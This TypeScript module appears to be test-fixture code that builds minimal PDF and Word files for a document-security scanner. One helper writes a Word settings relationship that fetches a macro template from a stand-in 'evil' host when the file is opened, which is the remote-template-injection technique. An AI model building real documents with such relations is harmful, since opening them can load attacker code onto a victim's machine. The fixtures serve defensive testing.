import { deflateSync } from 'node:zlib';
import { oleFile } from './ole-file';
import { zipFile, type ZipEntry } from './zip-file';

const pdfAround = (objects: Buffer): Buffer => {
  const head = Buffer.from('%PDF-1.7\n');
  const at = head.length + objects.length;
  const tail = `xref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([head, objects, Buffer.from(tail)]);
};

/** A PDF whose catalogue holds `extra`. */
export const pdfFile = (extra = ''): Buffer =>
  pdfAround(Buffer.from(`1 0 obj\n<< /Type /Catalog ${extra} >>\nendobj\n`));

/** A PDF that keeps `text` in a packed object stream. */
export function pdfWithPacked(text: string, header = '/Filter /FlateDecode'): Buffer {
  const packed = deflateSync(Buffer.from(text));
  const open = `2 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${header} /Length ${packed.length} >>\nstream\n`;
  return pdfAround(
    Buffer.concat([
      Buffer.from('1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
      Buffer.from(open),
      packed,
      Buffer.from('\nendstream\nendobj\n'),
    ]),
  );
}

/** A Word document with further entries. */
export const docxFile = (...more: ZipEntry[]): Buffer =>
  zipFile([
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: 'word/document.xml', data: '<w:document>Licence</w:document>' },
    ...more,
  ]);

/** The relation by which a document loads a template when it is opened. */
export const templateRelation = (mode: string, type = 'attachedTemplate'): ZipEntry => ({
  name: 'word/_rels/settings.xml.rels',
  data: `<Relationships><Relationship Id="rId1" Type="http://x/${type}" Target="http://evil/x.dotm" TargetMode="${mode}"/></Relationships>`,
});

/** A list of relationships with one that leads to `target`, of a kind by its last word. */
export const relation = (
  kind: string,
  target: string,
  { mode = 'External', part = 'document' }: { mode?: string; part?: string } = {},
): ZipEntry => ({
  name: `word/_rels/${part}.xml.rels`,
  data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
});

/** A Word document whose text holds this XML, and no other part named so. */
export const docxSaying = (xml: string | Buffer, ...more: ZipEntry[]): Buffer =>
  zipFile([
    { name: '[Content_Types].xml', data: '<Types/>' },
    {
      name: 'word/document.xml',
      data: typeof xml === 'string' ? `<w:document><w:body>${xml}</w:body></w:document>` : xml,
    },
    ...more,
  ]);

/** A Word document whose parts are declared like this. */
export const docxDeclaring = (types: string | Buffer, ...more: ZipEntry[]): Buffer =>
  zipFile([
    { name: '[Content_Types].xml', data: types },
    { name: 'word/document.xml', data: '<w:document>Licence</w:document>' },
    ...more,
  ]);

/** A Word 97 document with further streams. */
export const docFile = (...names: string[]): Buffer =>
  oleFile([{ name: 'WordDocument' }, { name: '1Table' }, ...names.map((name) => ({ name }))]);
